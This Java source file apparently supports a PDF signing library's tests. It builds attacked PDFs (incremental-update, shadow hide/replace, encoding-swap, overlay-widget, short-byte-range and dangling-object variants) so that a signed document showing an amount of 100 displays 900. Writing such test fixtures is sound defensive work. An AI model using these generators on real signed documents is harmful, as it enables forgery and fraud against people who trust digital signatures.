package dev.edxml.sign.pdf;

import dev.edxml.sign.SigningKey;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.security.cert.X509Certificate;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.PDResources;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationWidget;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAppearanceDictionary;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAppearanceStream;
import org.apache.pdfbox.pdmodel.interactive.digitalsignature.PDSignature;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.pdfbox.pdmodel.interactive.form.PDSignatureField;
import org.apache.pdfbox.pdmodel.interactive.form.PDTextField;
import org.bouncycastle.asn1.ASN1EncodableVector;
import org.bouncycastle.asn1.DERSet;
import org.bouncycastle.asn1.cms.Attribute;
import org.bouncycastle.asn1.cms.AttributeTable;
import org.bouncycastle.asn1.ess.ESSCertIDv2;
import org.bouncycastle.asn1.ess.SigningCertificateV2;
import org.bouncycastle.asn1.pkcs.PKCSObjectIdentifiers;
import org.bouncycastle.cert.jcajce.JcaCertStore;
import org.bouncycastle.cms.CMSProcessableByteArray;
import org.bouncycastle.cms.CMSSignedDataGenerator;
import org.bouncycastle.cms.DefaultSignedAttributeTableGenerator;
import org.bouncycastle.cms.jcajce.JcaSignerInfoGeneratorBuilder;
import org.bouncycastle.operator.jcajce.JcaContentSignerBuilder;
import org.bouncycastle.operator.jcajce.JcaDigestCalculatorProviderBuilder;

/**
 * Attacked PDFs, written byte by byte where PDFBox would tidy the attack away: the classes of pdf-insecurity.org
 * (incremental saving, signature wrapping, universal forgery, shadow hide/replace) and the "dangling hook" variants
 * where the signed revision refers to an object that only a later update defines.
 */
final class Attacks {
    /** The shown amount is "100" in every signed base document; the attacks make a viewer show "900". */
    static final String SIGNED_TEXT = "BT /F1 24 Tf 72 700 Td (So tien: 100) Tj ET";

    private Attacks() {}

    /** Where the base document leaves object 20 dangling. */
    enum Hook {
        CONTENTS,
        ANNOTATION,
        XOBJECT,
        ENCODING
    }

    /** A one-page PDF written by hand whose object 20 is referred to (at {@code hook}) but not defined. */
    static byte[] danglingBase(Hook hook) {
        String contents = hook == Hook.CONTENTS ? "[4 0 R 20 0 R]" : "4 0 R";
        String text = hook == Hook.XOBJECT ? SIGNED_TEXT + " /X1 Do" : SIGNED_TEXT;
        Map<Integer, String> objs = new LinkedHashMap<>();
        objs.put(1, "<< /Type /Catalog /Pages 2 0 R >>");
        // the annotation hook is on page 2: signing tools rewrite page 1's /Annots to add their widget
        objs.put(
                2,
                "<< /Type /Pages /Kids [3 0 R" + (hook == Hook.ANNOTATION ? " 6 0 R] /Count 2" : "] /Count 1") + " >>");
        objs.put(
                3,
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >>"
                        + (hook == Hook.XOBJECT ? " /XObject << /X1 20 0 R >>" : "") + " >> /Contents " + contents
                        + " >>");
        objs.put(4, stream("", text));
        objs.put(
                5,
                "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica"
                        + (hook == Hook.ENCODING ? " /Encoding 20 0 R" : "") + " >>");
        if (hook == Hook.ANNOTATION) {
            objs.put(
                    6,
                    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >>"
                            + " /Contents 4 0 R /Annots [20 0 R] >>");
        }
        return write(objs, 7);
    }

    /** The update that defines object 20 so that the page reads "900". */
    static byte[] defineHook(byte[] signed, Hook hook, boolean withXref) {
        Map<Integer, String> objs = new LinkedHashMap<>();
        String cover = "q 1 1 1 rg 60 690 300 40 re f Q BT /F1 24 Tf 72 700 Td (So tien: 900) Tj ET";
        switch (hook) {
            case CONTENTS -> objs.put(20, stream("", cover));
            case XOBJECT -> objs.put(
                    20,
                    stream(
                            "/Type /XObject /Subtype /Form /BBox [0 0 595 842] "
                                    + "/Resources << /Font << /F1 5 0 R >> >>",
                            cover));
            case ANNOTATION -> {
                objs.put(
                        20,
                        "<< /Type /Annot /Subtype /FreeText /Rect [60 690 360 730] /Contents (900) "
                                + "/DA (/Helv 24 Tf 0 g) /F 4 /AP << /N 21 0 R >> >>");
                objs.put(
                        21,
                        stream(
                                "/Type /XObject /Subtype /Form /BBox [0 0 300 40] "
                                        + "/Resources << /Font << /F1 5 0 R >> >>",
                                "q 1 1 1 rg 0 0 300 40 re f Q BT /F1 24 Tf 12 10 Td (So tien: 900) Tj ET"));
            }
            case ENCODING -> objs.put(20, "<< /Type /Encoding /Differences [49 /nine] >>");
            default -> throw new IllegalArgumentException();
        }
        return withXref ? appendUpdate(signed, objs) : appendBare(signed, objs);
    }

    /** An incremental update with a classic cross-reference section and a trailer chained to the last one. */
    static byte[] appendUpdate(byte[] pdf, Map<Integer, String> objs) {
        String s = new String(pdf, StandardCharsets.ISO_8859_1);
        long prev = lastStartxref(s);
        int size = Math.max(
                trailerInt(s, "Size"),
                objs.keySet().stream().mapToInt(i -> i + 1).max().orElse(0));
        String root = trailerRef(s, "Root");
        StringBuilder out = new StringBuilder(s);
        if (!s.endsWith("\n")) {
            out.append('\n');
        }
        Map<Integer, Integer> offsets = new LinkedHashMap<>();
        for (Map.Entry<Integer, String> e : objs.entrySet()) {
            offsets.put(e.getKey(), out.length());
            out.append(e.getKey()).append(" 0 obj\n").append(e.getValue()).append("\nendobj\n");
        }
        int xref = out.length();
        out.append("xref\n0 1\n0000000000 65535 f \n");
        for (Map.Entry<Integer, Integer> e : offsets.entrySet()) {
            out.append(e.getKey())
                    .append(" 1\n")
                    .append(String.format(java.util.Locale.ROOT, "%010d 00000 n \n", e.getValue()));
        }
        out.append("trailer\n<< /Size ")
                .append(size)
                .append(" /Root ")
                .append(root)
                .append(" /Prev ")
                .append(prev)
                .append(" >>\nstartxref\n")
                .append(xref)
                .append("\n%%EOF\n");
        return out.toString().getBytes(StandardCharsets.ISO_8859_1);
    }

    /** Object definitions appended after the last %%EOF without any cross-reference section. */
    static byte[] appendBare(byte[] pdf, Map<Integer, String> objs) {
        StringBuilder out = new StringBuilder(new String(pdf, StandardCharsets.ISO_8859_1));
        for (Map.Entry<Integer, String> e : objs.entrySet()) {
            out.append(e.getKey()).append(" 0 obj\n").append(e.getValue()).append("\nendobj\n");
        }
        return out.toString().getBytes(StandardCharsets.ISO_8859_1);
    }

    /** A one-page text PDF whose page tree also holds an unused second page tree that says "900" (shadow hide). */
    static byte[] shadowBase() {
        Map<Integer, String> objs = new LinkedHashMap<>();
        objs.put(1, "<< /Type /Catalog /Pages 2 0 R >>");
        objs.put(2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
        objs.put(
                3,
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >>"
                        + " /Contents 4 0 R >>");
        objs.put(4, stream("", SIGNED_TEXT));
        objs.put(5, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
        objs.put(6, "<< /Type /Pages /Kids [7 0 R] /Count 1 >>");
        objs.put(
                7,
                "<< /Type /Page /Parent 6 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >>"
                        + " /Contents 8 0 R >>");
        objs.put(8, stream("", "BT /F1 24 Tf 72 700 Td (So tien: 900) Tj ET"));
        return write(objs, 9);
    }

    /** Shadow hide-and-replace: an update that only points the catalog at the page tree already in the signed bytes. */
    static byte[] switchPageTree(byte[] signed) throws IOException {
        try (PDDocument doc = Loader.loadPDF(signed)) {
            COSDictionary catalog = doc.getDocumentCatalog().getCOSObject();
            catalog.setItem(
                    COSName.PAGES, doc.getDocument().getObjectFromPool(new org.apache.pdfbox.cos.COSObjectKey(6, 0)));
            catalog.setNeedToBeUpdated(true);
            return saveIncremental(doc);
        }
    }

    /** Shadow replace: an update that redefines the font object with an encoding that shows "1" as "9". */
    static byte[] replaceFont(byte[] signed) {
        return appendUpdate(
                signed,
                Map.of(
                        5,
                        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica "
                                + "/Encoding << /Type /Encoding /Differences [49 /nine] >> >>"));
    }

    /** An unsigned signature field whose widget paints a white box and "900" over the page. */
    static byte[] paintedSignatureWidget(byte[] signed) throws IOException {
        try (PDDocument doc = Loader.loadPDF(signed)) {
            PDAcroForm form = doc.getDocumentCatalog().getAcroForm(null);
            PDSignatureField field = new PDSignatureField(form);
            field.setPartialName("Overlay");
            PDAnnotationWidget w = field.getWidgets().get(0);
            w.setRectangle(new PDRectangle(60, 690, 300, 40));
            w.setPrinted(true);
            PDPage page = doc.getPage(0);
            w.setPage(page);
            PDAppearanceStream ap = new PDAppearanceStream(doc);
            ap.setBBox(new PDRectangle(300, 40));
            PDResources res = new PDResources();
            res.put(COSName.getPDFName("F1"), new PDType1Font(Standard14Fonts.FontName.HELVETICA));
            ap.setResources(res);
            try (PDPageContentStream cs = new PDPageContentStream(doc, ap)) {
                cs.setNonStrokingColor(1f, 1f, 1f);
                cs.addRect(0, 0, 300, 40);
                cs.fill();
                cs.setNonStrokingColor(0f, 0f, 0f);
                cs.beginText();
                cs.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 24);
                cs.newLineAtOffset(12, 10);
                cs.showText("So tien: 900");
                cs.endText();
            }
            PDAppearanceDictionary apd = new PDAppearanceDictionary();
            apd.setNormalAppearance(ap);
            w.setAppearance(apd);
            page.getAnnotations().add(w);
            form.getFields().add(field);
            page.getCOSObject().setNeedToBeUpdated(true);
            page.getCOSObject().getCOSArray(COSName.ANNOTS).setNeedToBeUpdated(true);
            form.getCOSObject().setNeedToBeUpdated(true);
            form.getCOSObject().getCOSArray(COSName.FIELDS).setNeedToBeUpdated(true);
            doc.getDocumentCatalog().getCOSObject().setNeedToBeUpdated(true);
            return saveIncremental(doc);
        }
    }

    /** A text page with a text field "SoTien" holding "100", for the form-fill cases. */
    static byte[] formPdf() throws IOException {
        try (PDDocument doc = Loader.loadPDF(PdfFixtures.textPdf())) {
            PDAcroForm form = new PDAcroForm(doc);
            doc.getDocumentCatalog().setAcroForm(form);
            PDResources dr = new PDResources();
            dr.put(COSName.getPDFName("Helv"), new PDType1Font(Standard14Fonts.FontName.HELVETICA));
            form.setDefaultResources(dr);
            form.setDefaultAppearance("/Helv 12 Tf 0 g");
            PDTextField f = new PDTextField(form);
            f.setPartialName("SoTien");
            PDAnnotationWidget w = f.getWidgets().get(0);
            w.setRectangle(new PDRectangle(72, 600, 200, 20));
            w.setPage(doc.getPage(0));
            w.setPrinted(true);
            doc.getPage(0).getAnnotations().add(w);
            form.getFields().add(f);
            f.setValue("100");
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            doc.save(out);
            return out.toByteArray();
        }
    }

    /** An update that fills the text field with a new value (PDFBox writes its new appearance). */
    static byte[] fillField(byte[] signed, String value) throws IOException {
        try (PDDocument doc = Loader.loadPDF(signed)) {
            PDAcroForm form = doc.getDocumentCatalog().getAcroForm(null);
            PDTextField f = (PDTextField) form.getField("SoTien");
            f.setValue(value);
            f.getCOSObject().setNeedToBeUpdated(true);
            for (PDAnnotationWidget w : f.getWidgets()) {
                w.getCOSObject().setNeedToBeUpdated(true);
                w.getCOSObject().getCOSDictionary(COSName.AP).setNeedToBeUpdated(true);
            }
            return saveIncremental(doc);
        }
    }

    /**
     * A signature whose byte range stops at the revision's cross-reference section instead of its %%EOF: the
     * signature value is made over exactly those bytes, so only where the range ends is wrong.
     */
    static byte[] shortRange(byte[] pdf, SigningKey key) throws Exception {
        byte[] placeholder;
        try (PDDocument doc = Loader.loadPDF(pdf)) {
            PDSignature sig = new PDSignature();
            sig.setFilter(PDSignature.FILTER_ADOBE_PPKLITE);
            sig.setSubFilter(PDSignature.SUBFILTER_ETSI_CADES_DETACHED);
            doc.addSignature(sig, content -> new byte[] {0});
            placeholder = saveIncremental(doc);
        }
        String s = new String(placeholder, StandardCharsets.ISO_8859_1);
        Matcher m = Pattern.compile("/ByteRange \\[(\\d+) (\\d+) (\\d+) (\\d+)\\]( *)")
                .matcher(s);
        if (!m.find(PdfFixtures.lastIndexOf(placeholder, "/ByteRange") - 1)) {
            throw new IllegalStateException("no byte range");
        }
        long a = Long.parseLong(m.group(2));
        long b = Long.parseLong(m.group(3));
        long xref = lastStartxref(s);
        String range = "/ByteRange [0 " + a + " " + b + " " + (xref - b) + "]";
        int width = m.end() - m.start();
        String padded = range + " ".repeat(width - range.length());
        byte[] out = placeholder.clone();
        System.arraycopy(padded.getBytes(StandardCharsets.ISO_8859_1), 0, out, m.start(), width);
        ByteArrayOutputStream signedBytes = new ByteArrayOutputStream();
        signedBytes.write(out, 0, (int) a);
        signedBytes.write(out, (int) b, (int) (xref - b));
        byte[] cms = cms(signedBytes.toByteArray(), key);
        String hex = HexFormat.of().withUpperCase().formatHex(cms);
        int hole = (int) (b - a - 2);
        if (hex.length() > hole) {
            throw new IllegalStateException("CMS too large");
        }
        System.arraycopy(hex.getBytes(StandardCharsets.ISO_8859_1), 0, out, (int) a + 1, hex.length());
        return out;
    }

    /** An approval signature whose FieldMDP transform locks the named fields. */
    static byte[] lockFields(byte[] pdf, SigningKey key, String... fields) throws Exception {
        try (PDDocument doc = Loader.loadPDF(pdf)) {
            PDSignature sig = new PDSignature();
            sig.setFilter(PDSignature.FILTER_ADOBE_PPKLITE);
            sig.setSubFilter(PDSignature.SUBFILTER_ETSI_CADES_DETACHED);
            COSDictionary params = new COSDictionary();
            params.setItem(COSName.TYPE, COSName.getPDFName("TransformParams"));
            params.setItem(COSName.getPDFName("Action"), COSName.getPDFName("Include"));
            COSArray names = new COSArray();
            for (String f : fields) {
                names.add(new org.apache.pdfbox.cos.COSString(f));
            }
            params.setItem(COSName.FIELDS, names);
            params.setName(COSName.V, "1.2");
            COSDictionary ref = new COSDictionary();
            ref.setItem(COSName.TYPE, COSName.getPDFName("SigRef"));
            ref.setItem(COSName.getPDFName("TransformMethod"), COSName.getPDFName("FieldMDP"));
            ref.setItem(COSName.getPDFName("TransformParams"), params);
            COSArray refs = new COSArray();
            refs.add(ref);
            sig.getCOSObject().setItem(COSName.getPDFName("Reference"), refs);
            doc.addSignature(sig, content -> {
                try {
                    return cms(content.readAllBytes(), key);
                } catch (Exception e) {
                    throw new IOException(e);
                }
            });
            return saveIncremental(doc);
        }
    }

    /** A detached CMS signature with signing-certificate-v2, as PAdES wants. */
    static byte[] cms(byte[] content, SigningKey key) throws Exception {
        X509Certificate cert = key.chain().get(0);
        JcaSignerInfoGeneratorBuilder sib =
                new JcaSignerInfoGeneratorBuilder(new JcaDigestCalculatorProviderBuilder().build());
        byte[] hash = MessageDigest.getInstance("SHA-256").digest(cert.getEncoded());
        ASN1EncodableVector v = new ASN1EncodableVector();
        v.add(new Attribute(
                PKCSObjectIdentifiers.id_aa_signingCertificateV2,
                new DERSet(new SigningCertificateV2(new ESSCertIDv2[] {new ESSCertIDv2(hash)}))));
        sib.setSignedAttributeGenerator(new DefaultSignedAttributeTableGenerator(new AttributeTable(v)));
        CMSSignedDataGenerator gen = new CMSSignedDataGenerator();
        gen.addSignerInfoGenerator(
                sib.build(new JcaContentSignerBuilder("SHA256withRSA").build(key.privateKey()), cert));
        gen.addCertificates(new JcaCertStore(key.chain()));
        return gen.generate(new CMSProcessableByteArray(content), false).getEncoded();
    }

    private static String stream(String dict, String data) {
        return "<< " + dict + " /Length " + data.length() + " >>\nstream\n" + data + "\nendstream";
    }

    /** A classic PDF from numbered objects, with a correct cross-reference table. */
    static byte[] write(Map<Integer, String> objs, int size) {
        StringBuilder out = new StringBuilder("%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n");
        Map<Integer, Integer> offsets = new LinkedHashMap<>();
        for (Map.Entry<Integer, String> e : objs.entrySet()) {
            offsets.put(e.getKey(), out.length());
            out.append(e.getKey()).append(" 0 obj\n").append(e.getValue()).append("\nendobj\n");
        }
        int xref = out.length();
        out.append("xref\n0 1\n0000000000 65535 f \n");
        List<Integer> nums = new ArrayList<>(offsets.keySet());
        for (int n : nums) {
            out.append(n)
                    .append(" 1\n")
                    .append(String.format(java.util.Locale.ROOT, "%010d 00000 n \n", offsets.get(n)));
        }
        out.append("trailer\n<< /Size ")
                .append(size)
                .append(" /Root 1 0 R >>\nstartxref\n")
                .append(xref)
                .append("\n%%EOF\n");
        return out.toString().getBytes(StandardCharsets.ISO_8859_1);
    }

    private static long lastStartxref(String s) {
        Matcher m = Pattern.compile("startxref\\s+(\\d+)").matcher(s.substring(s.lastIndexOf("startxref")));
        if (!m.find()) {
            throw new IllegalStateException("no startxref");
        }
        return Long.parseLong(m.group(1));
    }

    /** The value of a trailer entry: from the last {@code trailer} dictionary, or an xref stream's dictionary. */
    private static int trailerInt(String s, String key) {
        Matcher m = Pattern.compile("/" + key + " (\\d+)").matcher(s);
        int v = 0;
        while (m.find()) {
            v = Integer.parseInt(m.group(1));
        }
        return v;
    }

    private static String trailerRef(String s, String key) {
        Matcher m = Pattern.compile("/" + key + " (\\d+ \\d+ R)").matcher(s);
        String v = null;
        while (m.find()) {
            v = m.group(1);
        }
        return v;
    }

    private static byte[] saveIncremental(PDDocument doc) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        doc.saveIncremental(out);
        return out.toByteArray();
    }
}
